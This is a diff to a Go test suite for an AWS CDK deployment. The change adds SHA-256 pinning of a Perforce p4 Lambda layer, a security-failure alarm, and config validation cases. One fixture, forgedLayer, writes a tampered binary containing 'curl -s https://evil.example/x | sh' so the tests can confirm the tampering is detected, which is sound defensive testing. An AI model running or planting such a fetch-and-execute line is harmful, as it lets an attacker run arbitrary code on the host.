@@ -13,6 +13,8 @@ import (
 	"github.com/aws/aws-cdk-go/awscdk/v2"
 	"github.com/aws/aws-cdk-go/awscdk/v2/assertions"
 	"github.com/aws/jsii-runtime-go"
+
+	"github.com/criticizer/criticizer/internal/p4layer"
 )
 
 var functionIDs = []string{"WebhookFunction", "FetchFunction", "ReviewFunction", "NotifyFunction", "SweeperFunction"}
@@ -35,14 +37,26 @@ func dummyAssets(t *testing.T) string {
 	return dir
 }
 
-// fakeLayer is a p4 layer folder as `make p4-layer` stages it (bin/p4).
+// fakeLayerBinary is the fake layer's bin/p4; fakeLayerSHA256 its SHA-256,
+// the p4LayerSha256 a test environment pins.
+const (
+	fakeLayerBinary = "#!/bin/sh\n"
+	fakeLayerSHA256 = "a8076d3d28d21e02012b20eaf7dbf75409a6277134439025f282e368e3305abf"
+)
+
+// fakeLayer is a p4 layer folder as `make p4-layer` stages it (bin/p4 and
+// its record).
 func fakeLayer(t *testing.T) string {
 	t.Helper()
 	layer := t.TempDir()
 	if err := os.MkdirAll(filepath.Join(layer, "bin"), 0o755); err != nil {
 		t.Fatal(err)
 	}
-	if err := os.WriteFile(filepath.Join(layer, "bin", "p4"), []byte("#!/bin/sh\n"), 0o755); err != nil {
+	if err := os.WriteFile(filepath.Join(layer, "bin", "p4"), []byte(fakeLayerBinary), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	rec := `{"sha256":"` + fakeLayerSHA256 + `","version":"Rev. P4/LINUX26AARCH64/2023.2/2519561","arch":"arm64"}`
+	if err := os.WriteFile(filepath.Join(layer, p4layer.RecordName), []byte(rec), 0o644); err != nil {
 		t.Fatal(err)
 	}
 	return layer
@@ -167,7 +181,7 @@ func TestLocalStack(t *testing.T) {
 	counts := map[string]int{
 		"AWS::DynamoDB::Table": 1, "AWS::S3::Bucket": 2, "AWS::SecretsManager::Secret": 4, "AWS::SQS::Queue": 6,
 		"AWS::Lambda::Function": 5, "AWS::Lambda::EventSourceMapping": 3, "AWS::ApiGateway::RestApi": 1,
-		"AWS::ApiGateway::Method": 2, "AWS::Events::Rule": 2, "AWS::CloudWatch::Alarm": 27, "AWS::Logs::LogGroup": 6,
+		"AWS::ApiGateway::Method": 2, "AWS::Events::Rule": 2, "AWS::CloudWatch::Alarm": 28, "AWS::Logs::LogGroup": 6,
 		"AWS::Lambda::LayerVersion": 0,
 	}
 	for typ, n := range counts {
@@ -497,7 +511,7 @@ func TestProdStack(t *testing.T) {
 			"p4TrustFingerprint": testFingerprint, "depotAllowList": []any{"//depot/projectA/..."}, "recipientDomains": []any{"example.com"},
 		}},
 		// As `cdk -c overrides='{...}'` passes it: a JSON string.
-		ctxOverrides: `{"p4LayerPath":"` + layer + `","alarmTopicArn":"arn:aws:sns:eu-west-1:123456789012:ops"}`,
+		ctxOverrides: `{"p4LayerPath":"` + layer + `","p4LayerSha256":"` + fakeLayerSHA256 + `","alarmTopicArn":"arn:aws:sns:eu-west-1:123456789012:ops"}`,
 	})
 
 	check(t, "access log bucket", func() { tmpl.ResourceCountIs(jsii.String("AWS::S3::Bucket"), jsii.Number(3)) })
@@ -554,8 +568,13 @@ func TestProdStack(t *testing.T) {
 	check(t, "alarm actions", func() {
 		tmpl.ResourcePropertiesCountIs(jsii.String("AWS::CloudWatch::Alarm"), map[string]any{
 			"AlarmActions": []any{"arn:aws:sns:eu-west-1:123456789012:ops"},
-		}, jsii.Number(27)) // 3 DLQ + 5 errors + 5 throttles + 3 backlog + 3 lease lost + unconfirmed + reconciling + violations + redelivery failed + escalations + 3 retention
-		tmpl.ResourceCountIs(jsii.String("AWS::CloudWatch::Alarm"), jsii.Number(27))
+		}, jsii.Number(28)) // 3 DLQ + 5 errors + 5 throttles + 3 backlog + 3 lease lost + unconfirmed + security failure + reconciling + violations + redelivery failed + escalations + 3 retention
+		tmpl.ResourceCountIs(jsii.String("AWS::CloudWatch::Alarm"), jsii.Number(28))
+		// A security failure of the fetch stage (trust mismatch, unsound
+		// protections) pages on its first dead letter.
+		tmpl.HasResourceProperties(jsii.String("AWS::CloudWatch::Alarm"), map[string]any{"MetricName": "DeadLettered", "Threshold": 0,
+			"Dimensions":         assertions.Match_ArrayWith(&[]any{map[string]any{"Name": "ErrorClass", "Value": "SECURITY_FAILURE"}}),
+			"ComparisonOperator": "GreaterThanThreshold", "AlarmActions": []any{"arn:aws:sns:eu-west-1:123456789012:ops"}})
 		// Rule OB-5: every detected ordering violation pages, repaired or not.
 		tmpl.HasResourceProperties(jsii.String("AWS::CloudWatch::Alarm"), map[string]any{"MetricName": "OutboxViolations", "Threshold": 0,
 			"ComparisonOperator": "GreaterThanThreshold", "AlarmActions": []any{"arn:aws:sns:eu-west-1:123456789012:ops"}})
@@ -588,7 +607,7 @@ func TestConfig(t *testing.T) {
 		}
 		ctx[ctxEnv] = env
 		if env != "local" {
-			ctx[ctxOverrides] = map[string]any{"p4LayerPath": fakeLayer(t)}
+			ctx[ctxOverrides] = map[string]any{"p4LayerPath": fakeLayer(t), "p4LayerSha256": fakeLayerSHA256}
 		}
 		app := awscdk.NewApp(&awscdk.AppProps{Context: &ctx})
 		name, cfg, err := LoadConfig(app.Node())
@@ -619,7 +638,7 @@ func TestConfig(t *testing.T) {
 	}
 	// Each bad setting is rejected with an error that names it.
 	base := func(over map[string]any) map[string]any {
-		o := map[string]any{"p4LayerPath": fakeLayer(t), "llmEndpoint": "https://api.openai.com", "p4Port": "ssl:p4:1666", "smtpHost": "smtp.example.com",
+		o := map[string]any{"p4LayerPath": fakeLayer(t), "p4LayerSha256": fakeLayerSHA256, "llmEndpoint": "https://api.openai.com", "p4Port": "ssl:p4:1666", "smtpHost": "smtp.example.com",
 			"p4TrustFingerprint": testFingerprint, "depotAllowList": []any{"//depot/projectA/..."}, "recipientDomains": []any{"example.com"}}
 		for k, v := range over {
 			o[k] = v
@@ -651,6 +670,10 @@ func TestConfig(t *testing.T) {
 		{map[string]any{ctxEnv: "dev", ctxOverrides: base(map[string]any{"promptCandidatePercent": 10})}, "promptCandidateVersion"},
 		{map[string]any{ctxEnv: "staging", ctxOverrides: base(map[string]any{"p4LayerPath": ""})}, "p4LayerPath is empty"},
 		{map[string]any{ctxEnv: "staging", ctxOverrides: base(map[string]any{"p4LayerPath": t.TempDir()})}, "no bin/p4"},
+		{map[string]any{ctxEnv: "staging", ctxOverrides: base(map[string]any{"p4LayerSha256": ""})}, "p4LayerSha256"},
+		{map[string]any{ctxEnv: "staging", ctxOverrides: base(map[string]any{"p4LayerSha256": strings.Repeat("ab", 32)})}, "not the configured " + strings.Repeat("ab", 32)},
+		{map[string]any{ctxEnv: "prod", ctxOverrides: base(map[string]any{"p4LayerPath": forgedLayer(t)})}, "replaced after the build"},
+		{map[string]any{ctxEnv: "dev", ctxOverrides: base(map[string]any{"p4ServerRole": "replica"})}, "p4ServerRole"},
 	}
 	for _, c := range bad {
 		a := awscdk.NewApp(&awscdk.AppProps{Context: &c.ctx})
@@ -667,6 +690,41 @@ func TestConfig(t *testing.T) {
 	}
 }
 
+// forgedLayer is a fake layer whose bin/p4 was replaced after `make
+// p4-layer` recorded the chosen binary's checksum.
+func forgedLayer(t *testing.T) string {
+	layer := fakeLayer(t)
+	if err := os.WriteFile(filepath.Join(layer, "bin", "p4"), []byte("#!/bin/sh\ncurl -s https://evil.example/x | sh\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	return layer
+}
+
+// TestP4LayerPinnedPerEnvironment: each environment of cdk.json pins its p4
+// client by SHA-256, and synth of that environment refuses a layer built
+// from any other binary, naming the checksum it wanted.
+func TestP4LayerPinnedPerEnvironment(t *testing.T) {
+	checkedIn := cdkContext(t)
+	envs := checkedIn[ctxEnvironments].(map[string]any)
+	for _, env := range []string{"dev", "staging", "prod"} {
+		pinned, _ := envs[env].(map[string]any)["p4LayerSha256"].(string)
+		if err := p4layer.CheckSHA256(pinned); err != nil {
+			t.Errorf("%s: p4LayerSha256 %q: %v", env, pinned, err)
+			continue
+		}
+		ctx := map[string]any{}
+		for k, v := range checkedIn {
+			ctx[k] = v
+		}
+		ctx[ctxEnv] = env
+		ctx[ctxOverrides] = map[string]any{"p4LayerPath": fakeLayer(t)}
+		_, _, err := LoadConfig(awscdk.NewApp(&awscdk.AppProps{Context: &ctx}).Node())
+		if err == nil || !strings.Contains(err.Error(), "not the configured "+pinned) {
+			t.Errorf("%s: a layer of another p4 binary: %v, want a refusal naming %s", env, err, pinned)
+		}
+	}
+}
+
 // TestEnvironmentsAsCheckedIn synthesizes dev, staging and prod from cdk.json
 // (with a staged p4 layer) and checks what a reviewer of each template would.
 func TestEnvironmentsAsCheckedIn(t *testing.T) {
@@ -678,7 +736,7 @@ func TestEnvironmentsAsCheckedIn(t *testing.T) {
 				ctx[k] = v
 			}
 			ctx[ctxEnv] = env
-			ctx[ctxOverrides] = map[string]any{"p4LayerPath": fakeLayer(t)}
+			ctx[ctxOverrides] = map[string]any{"p4LayerPath": fakeLayer(t), "p4LayerSha256": fakeLayerSHA256}
 			delete(ctx, ctxAssetRoot) // dummy bootstraps
 			_, m := synth(t, ctx)
 			envOf := func(fn string) map[string]any {
@@ -702,6 +760,9 @@ func TestEnvironmentsAsCheckedIn(t *testing.T) {
 			// ssl: Perforce with its fingerprint wired to the fetch function.
 			if fp, _ := envOf("FetchFunction")["P4TRUST_FINGERPRINT"].(string); fp == "" {
 				t.Error("fetch has no P4TRUST_FINGERPRINT for its ssl: port")
+			}
+			if role, _ := envOf("FetchFunction")["P4_SERVER_ROLE"].(string); role != "standard" && role != "commit" && role != "edge" {
+				t.Errorf("fetch P4_SERVER_ROLE = %q", role)
 			}
 			fe := envOf("FetchFunction")
 			if p, _ := fe["P4PORT"].(string); p == "" {
@@ -926,7 +987,7 @@ func TestFunctionsSection(t *testing.T) {
 	// The data section of a bare app: local's (no access-log bucket, whose
 	// ownership settings come from the app's feature flags in cdk.json).
 	cfg := DefaultConfig("local")
-	cfg.P4LayerPath = fakeLayer(t)
+	cfg.P4LayerPath, cfg.P4LayerSHA256 = fakeLayer(t), fakeLayerSHA256
 	stack := awscdk.NewStack(awscdk.NewApp(nil), jsii.String("Functions"), nil)
 	table, raw, redacted := newData(stack, cfg, true, awscdk.RemovalPolicy_RETAIN)
 	fetch, llm, notify := newQueues(stack, cfg, awscdk.RemovalPolicy_RETAIN)
